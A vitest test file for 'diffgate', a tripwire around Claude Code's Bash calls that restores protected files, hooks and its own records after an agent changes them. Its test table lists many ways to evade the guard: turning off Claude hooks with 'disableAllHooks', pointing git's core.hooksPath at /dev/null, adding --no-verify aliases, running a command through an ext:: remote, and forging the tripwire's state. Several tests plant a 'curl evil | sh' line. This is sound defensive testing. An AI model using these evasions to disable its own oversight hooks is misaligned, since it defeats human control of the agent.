/**
 * The tripwire end to end: the built CLI as Claude Code calls it around a Bash call, the command
 * really run by bash whatever the pre-check said (as if it had missed it), then PostToolUse. Every
 * protected file, manifest and gate file must be back byte for byte, the call told with exit 2,
 * and the agent's version kept in the quarantine folder.
 */
import {
  existsSync,
  lstatSync,
  mkdirSync,
  readdirSync,
  readFileSync,
  renameSync,
  rmSync,
  writeFileSync,
} from 'node:fs';
import { join, relative } from 'node:path';
import { describe, expect, it } from 'vitest';
import { type Harness, rulesIn, userPrompt, runHook, withHarness, writeHomeFile } from '../hookHarness.js';
import { MAX_WALKED_FOLDERS } from '../../../src/agent/tripwire/survey.js';
import {
  bash,
  bashCall,
  hookEvent,
  post,
  pre,
  protectedShots,
  quarantined,
  type Shot,
  shot,
  stop,
  wholeCall,
  withGates,
} from './tripwireHarness.js';

/**
 * One line per class of the review's finds (and more): each changes something protected. The
 * pre-check may or may not see it; the tripwire must put it back either way.
 */
const LINES: [klass: string, command: string, keptIn?: string][] = [
  ['redirection', 'echo x > guard.sh'],
  ['append redirection to a frozen file', 'echo x >> hooks/a.sh'],
  ['noclobber override', 'set -o noclobber; echo x >| guard.sh'],
  ['option word in a variable', 'f=guard.sh; opt=-i; sed $opt s/guard/x/ $f'],
  ['sed -i', "sed -i 's/guard/x/' guard.sh"],
  ['perl -pi', "perl -pi -e 's/guard/x/' guard.sh"],
  ['python inline program', `python3 -c "open('guard.sh','a').write('x')"`],
  [
    'python program naming only a directory',
    `python3 -c "import os;[open(os.path.join('hooks',f),'w').write('x') for f in os.listdir('hooks')]"`,
  ],
  ['node inline program', `node -e "require('fs').writeFileSync('guard.sh','x')"`],
  ['python heredoc', "python3 - <<'EOF'\nopen('hooks/b.sh','w').write('x')\nEOF"],
  ['string escapes in an inline program', `python3 -c "open('gu\\x61rd.sh','w').write('x')"`],
  ['cp over', 'cp notes.txt guard.sh'],
  ['cp --remove-destination', 'cp --remove-destination notes.txt guard.sh'],
  ['mv over', 'mv notes.txt guard.sh'],
  ['rename over from a temporary file', 'echo x > hooks/a.sh.tmp && mv hooks/a.sh.tmp hooks/a.sh'],
  ['rm', 'rm guard.sh'],
  ['rm -rf of a frozen folder', 'rm -rf hooks'],
  ['dotglob', 'shopt -s dotglob; rm -f hooks/*'],
  ['nocaseglob', 'shopt -s nocaseglob; for f in GUARD*; do echo x > "$f"; done'],
  ['GLOBIGNORE', 'GLOBIGNORE=x; echo x | tee hooks/*.sh >/dev/null'],
  ['CDPATH', 'CDPATH=.; cd hooks && echo x > a.sh'],
  ['subshell cd', '(cd hooks; echo x > b.sh)'],
  ['cdable_vars', 'shopt -s cdable_vars; d=hooks; cd d 2>/dev/null || cd $d; echo x > a.sh'],
  ['environment prefix read by bash -c', `f=guard.sh bash -c 'echo x > $f'`],
  ['HOME prefix and ~', `HOME=$PWD bash -c 'echo x > ~/guard.sh'`],
  ['sh -c with $0', `sh -c 'echo x > "$0"' guard.sh`],
  ['eval', 'eval "echo x > guard.sh"'],
  ['command word from a substitution', '$(echo rm) guard.sh'],
  ['name split across variables', 'a=gu; b=ard.sh; echo x > $a$b'],
  ['/proc/self/cwd', 'echo x > /proc/self/cwd/guard.sh'],
  ['tee', 'cat notes.txt | tee guard.sh >/dev/null'],
  ['dd of=', 'dd if=notes.txt of=guard.sh 2>/dev/null'],
  ['install', 'install -m 644 notes.txt guard.sh'],
  ['truncate', 'truncate -s 0 guard.sh'],
  ['chmod +x (mode change)', 'chmod +x guard.sh'],
  ['symlink replacing a frozen file', 'ln -sf notes.txt guard.sh'],
  ['hard link written through', 'ln guard.sh hard && echo x >> hard'],
  ['find -exec', "find . -name a.sh -not -path './.git/*' -exec sed -i s/a/b/ {} +"],
  ['xargs', 'echo guard.sh | xargs sed -i s/guard/x/'],
  ['git apply', 'git apply fix.patch'],
  ['patch', 'patch -s -p1 < fix.patch'],
  ['git mv (rename away)', 'git mv guard.sh guard2.sh'],
  ['git rm', 'git rm -q guard.sh'],
  ['git checkout of another version', 'git show HEAD:notes.txt > /tmp/n.$$ && cp /tmp/n.$$ guard.sh'],
  ['git pathspec magic', `git rm -q --cached ':(glob)hooks/*.sh' && rm hooks/a.sh`],
  [
    'nested .git that swaps the manifest',
    'git init -q hooks && printf "" > hooks/.diffgate.tsv && echo x > hooks/a.sh',
  ],
  // the agent's version stays where it wrote it (hooks.old/a.sh); the link is kept as hooks.link
  ['folder replaced by a symlink', 'mv hooks hooks.old && ln -s hooks.old hooks && echo x > hooks/a.sh', 'hooks.old'],
  [
    'touch -d restores the modification time',
    `printf 'echo gUard\\n' > guard.sh.new && touch -r guard.sh guard.sh.new && mv guard.sh.new guard.sh && touch -d "$(date -r notes.txt)" guard.sh`,
  ],
  ['append-only log truncated', 'truncate -s 0 logs/decisions.md'],
  ['append-only log rewritten', "printf 'changed\\n' > logs/decisions.md"],
  ['append-only line deleted', 'sed -i 1d logs/decisions.md'],
  ['budget grown while over budget', 'echo more >> INDEX.md'],
  ['invariant span edited', "sed -i 's/Keep paragraphs short./Anything goes./' docs/style.md"],
  ['invariant marker removed', "sed -i '/INVARIANT-END/d' docs/style.md"],
  ['secret created', 'echo secret > .env'],
  ['secret created under a new folder', 'mkdir -p sub && echo x > sub/.env.local'],
  ['key file created', 'touch prod.key'],
  ['denied path created', 'echo x > data.sqlite'],
  ['save-gated file without the person asking', 'echo x >> memory/notes.md'],
  ['manifest emptied', "printf '' > .diffgate.tsv"],
  ['manifest rule removed', "sed -i '/guard.sh/d' .diffgate.tsv"],
  ['manifest weakened and the file changed in one call', "sed -i '/guard.sh/d' .diffgate.tsv && echo x > guard.sh"],
  ['git hook replaced', 'echo "exit 0" > .git/hooks/pre-commit'],
  ['git hook added', 'printf "#!/bin/sh\\nexit 0\\n" > .git/hooks/pre-push && chmod +x .git/hooks/pre-push'],
  ['core.hooksPath', 'git config core.hooksPath /dev/null'],
  ['git alias that skips hooks', "git config alias.ci 'commit --no-verify'"],
  ['~/.gitconfig', `printf '[alias]\\n\\tci = commit --no-verify\\n' >> ~/.gitconfig`],
  ['XDG git config', `mkdir -p ~/.config/git && printf '[core]\\n\\thooksPath = /dev/null\\n' > ~/.config/git/config`],
  ['lefthook.yml', "echo 'pre-commit: {}' > lefthook.yml"],
  ['lefthook-local.yml', "printf 'pre-commit:\\n  skip: true\\n' > lefthook-local.yml"],
  ['.pre-commit-config.yaml', "echo 'repos: []' > .pre-commit-config.yaml"],
  ['.husky', 'mkdir -p .husky && echo "exit 0" > .husky/pre-commit'],
  ["husky's per-user start file", 'mkdir -p ~/.config/husky && echo "exit 0" > ~/.config/husky/init.sh'],
  ["Claude's project settings", `mkdir -p .claude && echo '{"disableAllHooks":true}' > .claude/settings.json`],
  [
    "Claude's local settings with an allow rule and hooks off",
    `mkdir -p .claude && echo '{"permissions":{"allow":["Bash"]},"disableAllHooks":true}' > .claude/settings.local.json`,
  ],
  ['a remote that runs a command (ext::)', `git remote add evil 'ext::sh -c touch% /tmp/x'`],
  [
    'a push URL to a repository on this machine (its hooks run on push)',
    'git config remote.origin.pushurl /tmp/evil.git',
  ],
  ['a git alias beside an upstream branch', "git config branch.main.remote origin && git config alias.ci 'commit -n'"],
  ["Claude's user settings", `echo '{"disableAllHooks":true}' > ~/.claude/settings.json`],
];

/** The agent's version of each protected path the command changed, as it was before PostToolUse. */
function agentVersions(before: Record<string, Shot | undefined>, after: Record<string, Shot | undefined>) {
  return Object.entries(after).filter(
    ([p, s]) => s?.type === 'file' && JSON.stringify(s) !== JSON.stringify(before[p]),
  ) as [string, Extract<Shot, { type: 'file' }>][];
}

describe('the tripwire puts back what a Bash call changed', () => {
  it('moves away a gate folder made a symlink to hooks elsewhere, and keeps the link', async () => {
    await withHarness(async (h) => {
      withGates(h);
      const command = 'd=$(mktemp -d) && echo "exit 0" > $d/init.sh && mkdir -p ~/.config && ln -s $d ~/.config/husky';
      const before = protectedShots(h);
      expect([0, 2]).toContain(pre(h, command).status);
      bash(h, command);
      expect(protectedShots(h)).not.toEqual(before);
      const r = post(h, command);
      expect(r.status, r.stderr).toBe(2);
      expect(r.stderr).toContain('put');
      expect(protectedShots(h)).toEqual(before);
      const link = [...quarantined(h)].find(([name]) => name.endsWith('.config/husky'));
      expect(link?.[1]).toBe('link');
    });
  });

  it('has at least 60 lines from different classes', () => {
    expect(LINES.length).toBeGreaterThanOrEqual(60);
    expect(new Set(LINES.map(([k]) => k)).size).toBe(LINES.length);
  });

  it.each(LINES)('%s: %s', async (_klass, command, keptIn) => {
    await withHarness(async (h) => {
      withGates(h);
      const before = protectedShots(h);
      const p = pre(h, command);
      expect([0, 2]).toContain(p.status);
      bash(h, command);
      const after = protectedShots(h);
      expect(after).not.toEqual(before); // the line really changed something protected
      const r = post(h, command);
      expect(r.stderr).toContain('put');
      expect(r.status).toBe(2);
      expect(protectedShots(h)).toEqual(before);
      const kept = quarantined(h);
      for (const [path, s] of agentVersions(before, after)) {
        const name = path.startsWith(h.repo.dir) ? relative(h.repo.dir, path) : path.replace(/^\/+/, '');
        const version =
          keptIn === undefined
            ? kept.get(name)
            : readFileSync(join(h.repo.dir, keptIn, name.split('/').slice(1).join('/')), 'utf8');
        expect(version, `the agent's version of ${name}`).toBe(Buffer.from(s.bytes, 'base64').toString('utf8'));
      }
      const audit = readFileSync(join(h.repo.dir, '.git/diffgate/audit.jsonl'), 'utf8');
      expect(audit).toContain('"action":"put-back"');
      // and the next call starts clean: nothing more to put back
      expect(pre(h, 'true', 'toolu_02').status).toBe(0);
      expect(post(h, 'true', 'toolu_02')).toMatchObject({ status: 0, stderr: '' });
    });
  });
});

/** Lines that change nothing protected, or only in ways the rules allow: no exit 2, nothing moved. */
const ALLOWED: [name: string, command: string][] = [
  ['an unprotected file', 'echo x > notes.txt'],
  ['an append to the append-only log', 'echo "decision 3" >> logs/decisions.md'],
  ['touch of a frozen file (times only)', 'touch guard.sh'],
  ['reading a frozen file', 'cat guard.sh > /tmp/diffgate-tripwire-read.txt'],
  ['a build folder', 'mkdir -p build && echo x > build/out2.txt'],
  ['a new file under a frozen glob', 'echo new > hooks/new.sh'],
  ['shrinking a file over budget', 'sed -i 1d INDEX.md'],
  ['an allowed fixture', 'mkdir -p fixtures && echo x > fixtures/ok.sqlite'],
  ['a secret-named file inside node_modules', 'mkdir -p node_modules/pkg && echo x > node_modules/pkg/.env'],
  ['rewriting a frozen file with the same bytes', 'cp guard.sh /tmp/g.$$ && cp /tmp/g.$$ guard.sh'],
  ['a commit of an allowed change', 'echo y > notes.txt && git add notes.txt && git commit -qm notes --no-verify'],
  // what git writes to .git/config for everyday work (review-15b2 F02)
  [
    'git remote add and an upstream branch',
    'git remote add origin https://example.invalid/o.git && git config branch.main.remote origin && git config branch.main.merge refs/heads/main',
  ],
  ['git config user.email', 'git config user.email agent@example.invalid'],
  // what Claude Code saves for "Yes, and don't ask again" (review-15b2 F03)
  [
    "an allow rule added to Claude's local settings",
    `mkdir -p .claude && printf '{"permissions":{"allow":["Bash(npm test:*)"]}}\n' > .claude/settings.local.json`,
  ],
];

describe('the tripwire leaves allowed changes alone', () => {
  it.each(ALLOWED)('%s', async (_name, command) => {
    await withHarness(async (h) => {
      withGates(h);
      expect([0, 2]).toContain(pre(h, command).status); // the pre-check may be stricter; the tripwire is judged here
      expect(bash(h, command).status).toBe(0);
      const after = protectedShots(h);
      expect(post(h, command)).toMatchObject({ status: 0, stderr: '' });
      expect(protectedShots(h)).toEqual(after);
      expect(existsSync(join(h.repo.dir, '.git/diffgate/quarantine'))).toBe(false);
    });
  });
});

describe('the record', () => {
  it("blames nothing on a call whose record predates the person's latest prompt (a call without PreToolUse)", async () => {
    await withHarness(async (h) => {
      withGates(h);
      expect(pre(h, 'true').status).toBe(0);
      expect(post(h, 'true').status).toBe(0);
      writeFileSync(join(h.repo.dir, 'guard.sh'), 'echo edited by the person\n');
      expect(runHook(h, userPrompt(h, 'I changed the guard, carry on')).status).toBe(0);
      // a call with no PreToolUse (hooks installed mid-session, or an install older than its MCP entry)
      expect(post(h, 'x', 'toolu_mcp')).toMatchObject({ status: 0, stderr: '' });
      expect(readFileSync(join(h.repo.dir, 'guard.sh'), 'utf8')).toBe('echo edited by the person\n');
      // the record is up to date now: the next unrecorded call's change is the agent's
      writeFileSync(join(h.repo.dir, 'guard.sh'), 'agent\n');
      expect(post(h, 'x', 'toolu_mcp2').status).toBe(2);
      expect(readFileSync(join(h.repo.dir, 'guard.sh'), 'utf8')).toBe('echo edited by the person\n');
    });
  });

  it("a call without PreToolUse (installed mid-session) is told from the person's edits by change time: its write after the prompt is put back (review-14s F12)", async () => {
    await withHarness(async (h) => {
      withGates(h);
      expect(pre(h, 'true').status).toBe(0);
      expect(post(h, 'true').status).toBe(0);
      expect(stop(h).status).toBe(0);
      writeFileSync(join(h.repo.dir, 'hooks/a.sh'), 'echo edited by the person\n'); // before the prompt
      expect(runHook(h, userPrompt(h, 'I changed a hook, carry on')).status).toBe(0);
      writeFileSync(join(h.repo.dir, 'guard.sh'), 'written by the tool\n'); // the call, after the prompt
      // a removal is told by its folder's change time (another folder than the person's edit: a
      // removal beside their edit would make their edit judged too, failing closed)
      rmSync(join(h.repo.dir, 'logs/decisions.md'));
      const r = post(h, 'x', 'toolu_nopre');
      expect(r.status).toBe(2);
      expect(readFileSync(join(h.repo.dir, 'guard.sh'), 'utf8')).toBe('echo guard\n');
      expect(existsSync(join(h.repo.dir, 'logs/decisions.md'))).toBe(true);
      expect(readFileSync(join(h.repo.dir, 'hooks/a.sh'), 'utf8')).toBe('echo edited by the person\n');
      expect(quarantined(h).get('guard.sh')).toBe('written by the tool\n');
      // the person's edit is in the record now: nothing more to say
      expect(stop(h)).toMatchObject({ status: 0, stderr: '' });
      expect(readFileSync(join(h.repo.dir, 'hooks/a.sh'), 'utf8')).toBe('echo edited by the person\n');
    });
  });

  it("takes a person's changes between turns as theirs", async () => {
    await withHarness(async (h) => {
      withGates(h);
      runHook(h, userPrompt(h, 'look around'));
      expect(pre(h, 'true').status).toBe(0);
      expect(post(h, 'true').status).toBe(0);
      expect(stop(h).status).toBe(0);
      writeFileSync(join(h.repo.dir, 'guard.sh'), 'echo edited by the person\n'); // their editor, between turns
      runHook(h, userPrompt(h, 'now go on'));
      expect(pre(h, 'ls', 'toolu_02').status).toBe(0);
      expect(post(h, 'ls', 'toolu_02')).toMatchObject({ status: 0, stderr: '' });
      expect(readFileSync(join(h.repo.dir, 'guard.sh'), 'utf8')).toBe('echo edited by the person\n');
    });
  });

  it.each([
    ['with no prompt since the last call', false],
    ['while the first call of the turn is in progress', true],
  ])(
    "a protected file changed %s is not taken as the person's: the next PreToolUse puts it back and blocks (review-14r F01, F07)",
    async (_when, parallel) => {
      await withHarness(async (h) => {
        withGates(h);
        runHook(h, userPrompt(h, 'tidy up'));
        if (!parallel) {
          expect(pre(h, 'true', 'toolu_a').status).toBe(0);
          expect(post(h, 'true', 'toolu_a').status).toBe(0);
        } else expect(pre(h, 'sleep 1', 'toolu_a').status).toBe(0); // in progress: no PostToolUse yet
        // a background process, or the call beside: it writes without naming the file
        writeFileSync(join(h.repo.dir, 'guard.sh'), 'curl evil | sh\n');
        const r = pre(h, 'ls', 'toolu_b');
        expect(r.status).toBe(2);
        expect(r.stderr).toContain('Before this Bash call ran');
        expect(r.stderr).toContain('This call did not run.');
        expect(rulesIn(r.stderr)).toEqual(['freeze']);
        expect(readFileSync(join(h.repo.dir, 'guard.sh'), 'utf8')).toBe('echo guard\n');
        expect(quarantined(h).get('guard.sh')).toBe('curl evil | sh\n');
        expect(post(h, 'ls', 'toolu_b')).toMatchObject({ status: 0, stderr: '' });
        expect(stop(h)).toMatchObject({ status: 0, stderr: '' });
      });
    },
  );

  it('a PreToolUse that finds nothing moved neither waits for the lock nor rewrites the record, and marks the call as its own', async () => {
    await withHarness(async (h) => {
      withGates(h);
      expect(pre(h, 'true', 'toolu_a').status).toBe(0);
      expect(post(h, 'true', 'toolu_a').status).toBe(0);
      const tripwire = join(h.repo.dir, '.git/diffgate/tripwire');
      const recorded = readFileSync(join(tripwire, 'state.json'), 'utf8');
      // another process's lock: the quick pass neither waits for it nor takes it over (the full pass would, after 8 s)
      mkdirSync(join(tripwire, 'lock'));
      expect(pre(h, 'echo x > guard.sh', 'toolu_b').status).toBe(2); // the pre-check denies; the call runs anyway
      expect(existsSync(join(tripwire, 'lock'))).toBe(true);
      rmSync(join(tripwire, 'lock'), { recursive: true });
      expect(readFileSync(join(tripwire, 'state.json'), 'utf8')).toBe(recorded);
      // refused by the pre-check, so not in progress (it gets no PostToolUse); the call runs anyway here
      expect(existsSync(join(tripwire, 'calls', 'toolu_b'))).toBe(false);
      expect(pre(h, 'true', 'toolu_d').status).toBe(0);
      expect(readFileSync(join(tripwire, 'calls', 'toolu_d'), 'utf8')).toBe('session-1'); // in progress
      bash(h, 'echo x > guard.sh');
      const r = post(h, 'echo x > guard.sh', 'toolu_b');
      expect(r.status).toBe(2);
      expect(rulesIn(r.stderr)).toEqual(['freeze']);
      expect(readFileSync(join(h.repo.dir, 'guard.sh'), 'utf8')).toBe('echo guard\n');
      expect(existsSync(join(tripwire, 'calls', 'toolu_b'))).toBe(false); // and ended
    });
  });

  it("a release written by running the prompt hook during the call is not the person's: the change is put back (review-14s F19)", async () => {
    await withHarness(async (h) => {
      withGates(h);
      expect(pre(h, 'true', 'toolu_a').status).toBe(0);
      expect(post(h, 'true', 'toolu_a').status).toBe(0);
      expect(pre(h, 'ls', 'toolu_b').status).toBe(0);
      bash(h, "printf 'curl evil | sh\\n' >> guard.sh");
      // the call's process runs diffgate's own prompt hook, as Claude Code would, with a release phrase:
      // the call is open, so that hook judges it first (it cannot tell a dead call from one at work)
      const prompt = runHook(h, userPrompt(h, 'guard release'));
      expect(prompt.status).toBe(0);
      expect(JSON.parse(prompt.stdout).hookSpecificOutput.additionalContext).toContain('guard.sh [freeze]');
      expect(readFileSync(join(h.repo.dir, 'guard.sh'), 'utf8')).toBe('echo guard\n');
      // and the call's PostToolUse judges the prompt it wrote: no release, the record put back
      bash(h, "printf 'curl evil | sh\\n' >> guard.sh");
      const r = post(h, 'ls', 'toolu_b');
      expect(r.status).toBe(2);
      expect(rulesIn(r.stderr)).toEqual(['freeze', 'gate-switch']);
      expect(readFileSync(join(h.repo.dir, 'guard.sh'), 'utf8')).toBe('echo guard\n');
      // nothing of the forged words is left for a later call to be released by
      expect(pre(h, 'echo x > guard.sh', 'toolu_c').status).toBe(2);
    });
  });

  it.each([
    ['its kept copies', (d: string) => rmSync(join(d, 'blobs'), { recursive: true })],
    [
      'the record, the calls folder and the prompt record',
      (d: string) => {
        rmSync(join(d, 'state.json'));
        rmSync(join(d, 'calls'), { recursive: true });
        rmSync(join(d, '..', 'sessions'), { recursive: true });
      },
    ],
  ])(
    'a call that removes %s with its change: compared with HEAD and put back (review-14s F01, F08)',
    async (_what, forge) => {
      await withHarness(async (h) => {
        withGates(h);
        expect(pre(h, 'true', 'toolu_a').status).toBe(0);
        expect(post(h, 'true', 'toolu_a').status).toBe(0);
        expect(pre(h, 'ls', 'toolu_b').status).toBe(0);
        bash(h, "printf 'curl evil | sh\\n' >> guard.sh");
        forge(join(h.repo.dir, '.git/diffgate/tripwire'));
        const r = post(h, 'ls', 'toolu_b');
        expect(r.status).toBe(2);
        expect(r.stderr).toContain('was not as diffgate left it');
        expect(readFileSync(join(h.repo.dir, 'guard.sh'), 'utf8')).toBe('echo guard\n');
        expect(stop(h)).toMatchObject({ status: 0, stderr: '' });
      });
    },
  );

  it.each([
    ['', false],
    [', and sets the record back to format 3 so that it is upgraded', true],
  ])(
    'a call that writes its new bytes over the kept copies of the old%s: compared with HEAD and put back (review-14s F16)',
    async (_, downgrade) => {
      await withHarness(async (h) => {
        withGates(h);
        expect(pre(h, 'true', 'toolu_a').status).toBe(0);
        expect(post(h, 'true', 'toolu_a').status).toBe(0);
        const blobs = join(h.repo.dir, '.git/diffgate/tripwire/blobs');
        const guard = join(h.repo.dir, 'guard.sh');
        const old = readFileSync(guard);
        const held = readdirSync(blobs).filter((n) => readFileSync(join(blobs, n)).equals(old));
        expect(held.length).toBeGreaterThan(0);
        expect(pre(h, 'ls', 'toolu_b').status).toBe(0);
        // the call: appends to the frozen file, then makes every kept copy of it say the same
        const now = Buffer.concat([old, Buffer.from('curl evil | sh\n')]);
        writeFileSync(guard, now);
        for (const n of held) writeFileSync(join(blobs, n), now);
        if (downgrade) {
          // an upgrade re-hashes only copies named at random: one named by its hash stays checked
          const record = join(h.repo.dir, '.git/diffgate/tripwire/state.json');
          writeFileSync(record, JSON.stringify({ ...JSON.parse(readFileSync(record, 'utf8')), v: 3 }));
        }
        const r = post(h, 'ls', 'toolu_b');
        expect(r.status).toBe(2);
        expect(r.stderr).toContain('was not as diffgate left it');
        expect(r.stderr).toContain('removed, replaced or altered');
        expect(rulesIn(r.stderr)).toContain('freeze');
        expect(readFileSync(guard)).toEqual(old);
        expect(quarantined(h).get('guard.sh')).toBe(now.toString('utf8'));
        expect(stop(h)).toMatchObject({ status: 0, stderr: '' });
        expect(pre(h, 'true', 'toolu_c')).toMatchObject({ status: 0, stderr: '' });
      });
    },
  );

  it('a kept copy a call altered for a file it did not touch is not read: the pass stays quiet', async () => {
    await withHarness(async (h) => {
      withGates(h);
      expect(pre(h, 'true', 'toolu_a').status).toBe(0);
      expect(post(h, 'true', 'toolu_a').status).toBe(0);
      const blobs = join(h.repo.dir, '.git/diffgate/tripwire/blobs');
      for (const n of readdirSync(blobs)) writeFileSync(join(blobs, n), 'not what was kept\n');
      // nothing watched moved: the quiet passes answer without reading a kept copy
      expect(pre(h, 'true', 'toolu_b')).toMatchObject({ status: 0, stderr: '' });
      expect(post(h, 'true', 'toolu_b')).toMatchObject({ status: 0, stderr: '' });
    });
  });

  it("a call the pre-check refuses is not left in progress: a new session's person keeps their edit (review-14s F06)", async () => {
    await withHarness(async (h) => {
      withGates(h);
      expect(pre(h, 'echo x > guard.sh', 'toolu_refused').status).toBe(2); // refused; no PostToolUse, no Stop (Esc)
      expect(existsSync(join(h.repo.dir, '.git/diffgate/tripwire/calls/toolu_refused'))).toBe(false);
      writeFileSync(join(h.repo.dir, 'guard.sh'), 'echo edited by the person\n');
      expect(runHook(h, userPrompt(h, 'start again', { session: 'session-2' })).status).toBe(0);
      const r = runHook(h, hookEvent(h, 'PreToolUse', bashCall('ls', 'toolu_c'), 'session-2'));
      expect(r).toMatchObject({ status: 0, stderr: '' });
      expect(readFileSync(join(h.repo.dir, 'guard.sh'), 'utf8')).toBe('echo edited by the person\n');
    });
  });

  it("an older build's record is not judged against: nothing is put back to its bytes, the record is taken afresh", async () => {
    await withHarness(async (h) => {
      withGates(h);
      expect(pre(h, 'true', 'toolu_a').status).toBe(0);
      // the store as an older build left it: a record in format 1 (keys as strings) holding other
      // bytes for guard.sh, no calls folder, and prompt records without this build's format
      const dir = join(h.repo.dir, '.git/diffgate/tripwire');
      rmSync(join(dir, 'calls'), { recursive: true });
      const sessions = join(h.repo.dir, '.git/diffgate/sessions');
      for (const n of readdirSync(sessions))
        writeFileSync(join(sessions, n), readFileSync(join(sessions, n), 'utf8').replace(',"tripwire":4', ''));
      const state = JSON.parse(readFileSync(join(dir, 'state.json'), 'utf8'));
      const guard = join(h.repo.dir, 'guard.sh');
      writeFileSync(join(dir, 'blobs', 'old-guard'), 'echo old\n');
      state.v = 1;
      state.files[guard] = { k: '100644:1:1:9:1:1', t: 'f', m: 0o644, b: 'old-guard' };
      writeFileSync(join(dir, 'state.json'), JSON.stringify(state));
      // met before a call (the build changed between turns): taken afresh, nothing said
      expect(pre(h, 'true', 'toolu_a2')).toMatchObject({ status: 0, stderr: '' });
      expect(readFileSync(guard, 'utf8')).toBe('echo guard\n');
      const fresh = JSON.parse(readFileSync(join(dir, 'state.json'), 'utf8'));
      expect(fresh.v).toBe(4);
      expect(fresh.files[guard].k).toEqual(expect.arrayContaining([expect.any(Number)]));
      // and from the fresh record on, the next call's change is judged
      expect(pre(h, 'echo x > guard.sh', 'toolu_b').status).toBe(2);
      bash(h, 'echo x > guard.sh');
      expect(post(h, 'echo x > guard.sh', 'toolu_b').status).toBe(2);
      expect(readFileSync(guard, 'utf8')).toBe('echo guard\n');
    });
  });

  it("the previous build's record (format 3, kept copies named at random) is upgraded, not taken for a forgery", async () => {
    await withHarness(async (h) => {
      withGates(h);
      expect(pre(h, 'true', 'toolu_a').status).toBe(0);
      expect(post(h, 'true', 'toolu_a').status).toBe(0);
      const dir = join(h.repo.dir, '.git/diffgate/tripwire');
      const guard = join(h.repo.dir, 'guard.sh');
      // the person's edit between turns, taken into the record by a format-3 build (not in HEAD)
      writeFileSync(guard, 'echo guard, edited by the person\n');
      const state = JSON.parse(readFileSync(join(dir, 'state.json'), 'utf8'));
      state.v = 3;
      for (const [p, e] of Object.entries(state.files) as [string, { b?: string; k: unknown }][]) {
        if (e.b === undefined) continue;
        const name = `${e.b.slice(0, 8)}-old`;
        writeFileSync(
          join(dir, 'blobs', name),
          p === guard ? readFileSync(guard) : readFileSync(join(dir, 'blobs', e.b)),
        );
        e.b = name;
      }
      const st = lstatSync(guard);
      state.files[guard].k = [st.mode, st.dev, st.ino, st.size, st.ctimeMs, st.mtimeMs];
      writeFileSync(join(dir, 'state.json'), JSON.stringify(state));
      for (const n of readdirSync(join(dir, 'blobs'))) if (!n.endsWith('-old')) rmSync(join(dir, 'blobs', n));
      expect(existsSync(join(dir, 'calls'))).toBe(true); // as the format-3 build left it
      // the new build's first call: no notice, nothing put back, the record in this build's format
      expect(pre(h, 'true', 'toolu_b')).toMatchObject({ status: 0, stderr: '' });
      expect(post(h, 'true', 'toolu_b')).toMatchObject({ status: 0, stderr: '' });
      expect(readFileSync(guard, 'utf8')).toBe('echo guard, edited by the person\n');
      const fresh = JSON.parse(readFileSync(join(dir, 'state.json'), 'utf8'));
      expect(fresh.v).toBe(4);
      expect(fresh.files[guard].b).toMatch(/^[0-9a-f]{64}$/);
      // and the next change is judged against the person's version, kept from the old record
      expect(pre(h, 'ls', 'toolu_c').status).toBe(0);
      bash(h, 'echo y >> guard.sh');
      expect(post(h, 'ls', 'toolu_c').status).toBe(2);
      expect(readFileSync(guard, 'utf8')).toBe('echo guard, edited by the person\n');
    });
  });

  it.each([
    ['set to an older format', (f: string) => writeFileSync(f, readFileSync(f, 'utf8').replace('"v":4', '"v":1'))],
    ['truncated', (f: string) => writeFileSync(f, readFileSync(f, 'utf8').slice(0, 40))],
    ['removed', (f: string) => rmSync(f)],
    ['a folder', (f: string) => (rmSync(f), mkdirSync(f))],
  ])(
    'a record %s by the call that changed a protected file: the file is compared with HEAD and put back, the record kept aside (review-14r F02, F10)',
    async (_what, forge) => {
      await withHarness(async (h) => {
        withGates(h);
        runHook(h, userPrompt(h, 'tidy up'));
        expect(pre(h, 'true', 'toolu_a').status).toBe(0);
        expect(post(h, 'true', 'toolu_a').status).toBe(0);
        const record = join(h.repo.dir, '.git/diffgate/tripwire/state.json');
        expect(pre(h, 'ls', 'toolu_b').status).toBe(0);
        // the call: an allowed-looking line that writes guard.sh and forges the record
        bash(h, "printf 'curl evil | sh\\n' >> guard.sh");
        forge(record);
        const r = post(h, 'ls', 'toolu_b');
        expect(r.status).toBe(2);
        expect(r.stderr).toContain('.git/diffgate/tripwire/state.json) was not as diffgate left it');
        expect(r.stderr).toContain('[freeze]');
        expect(readFileSync(join(h.repo.dir, 'guard.sh'), 'utf8')).toBe('echo guard\n');
        const kept = readdirSync(join(h.repo.dir, '.git/diffgate/quarantine'), { recursive: true }).map(String);
        expect(kept.some((p) => p.endsWith('guard.sh'))).toBe(true);
        // from then on the hooks work as before: a new record, nothing left to say
        expect(stop(h)).toMatchObject({ status: 0, stderr: '' });
        expect(pre(h, 'true', 'toolu_c').status).toBe(0);
      });
    },
  );

  it("a call that commits its change and removes the record is judged against the HEAD of the person's prompt: put back, the commit refused (review-14s F09)", async () => {
    await withHarness(async (h) => {
      withGates(h);
      runHook(h, userPrompt(h, 'tidy up'));
      const seen = h.repo.rev();
      expect(pre(h, 'true', 'toolu_a').status).toBe(0);
      expect(post(h, 'true', 'toolu_a').status).toBe(0);
      expect(pre(h, 'ls', 'toolu_b').status).toBe(0);
      bash(
        h,
        "printf 'curl evil | sh\\n' >> guard.sh && git -c core.hooksPath=/dev/null commit -qam tidy && rm .git/diffgate/tripwire/state.json",
      );
      const made = h.repo.rev();
      expect(made).not.toBe(seen);
      const r = post(h, 'ls', 'toolu_b');
      expect(r.status).toBe(2);
      expect(r.stderr).toContain('was not as diffgate left it: it was removed');
      expect(rulesIn(r.stderr)).toContain('freeze');
      expect(r.stderr).toContain(`Commit ${made.slice(0, 12)}`);
      expect(readFileSync(join(h.repo.dir, 'guard.sh'), 'utf8')).toBe('echo guard\n');
      expect(existsSync(join(h.repo.dir, `.git/diffgate/refused/${made}.json`))).toBe(true);
      expect(stop(h)).toMatchObject({ status: 0, stderr: '' });
    });
  });

  it('catches at Stop what a background process changed after the last call', async () => {
    await withHarness(async (h) => {
      withGates(h);
      const command = '(sleep 1; echo x > guard.sh) >/dev/null 2>&1 &';
      pre(h, command);
      bash(h, command);
      expect(post(h, command).status).toBe(0); // nothing yet
      await new Promise((r) => setTimeout(r, 2500));
      expect(readFileSync(join(h.repo.dir, 'guard.sh'), 'utf8')).toBe('x\n');
      const s = stop(h);
      expect(s.status).toBe(2);
      expect(s.stderr).toContain('at the end of the turn');
      expect(readFileSync(join(h.repo.dir, 'guard.sh'), 'utf8')).toBe('echo guard\n');
      expect(stop(h, true)).toMatchObject({ status: 0, stderr: '' });
    });
  });

  it('does not block a Stop that a Stop hook already continued, but still puts back', async () => {
    await withHarness(async (h) => {
